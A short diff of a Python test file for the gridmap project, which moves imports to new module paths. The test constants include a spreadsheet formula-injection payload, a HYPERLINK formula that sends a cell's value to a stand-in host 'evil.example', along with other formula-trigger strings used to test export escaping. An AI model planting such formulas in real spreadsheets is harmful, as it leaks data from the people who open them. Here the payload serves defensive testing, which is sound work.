@@ -21,11 +21,11 @@ from shapely.geometry import box
 from typer.testing import CliRunner
 
 from gridmap._spreadsheet import FORMULA_PREFIXES, csv_safe, write_csv, write_xlsx
-from gridmap.cells import assign_units
 from gridmap.cli import app
-from gridmap.export import EXPORT_KINDS
+from gridmap.grid.stored import assign_units
 from gridmap.ingest.pipeline import import_layer
 from gridmap.store import Store
+from gridmap.store.export import EXPORT_KINDS
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点我")'
 OTHER_TRIGGERS = ("+SUM(1,1)", "-1+2", "@SUM(A1:A2)", "\t=1+1")  # "\r": test_only_text_...
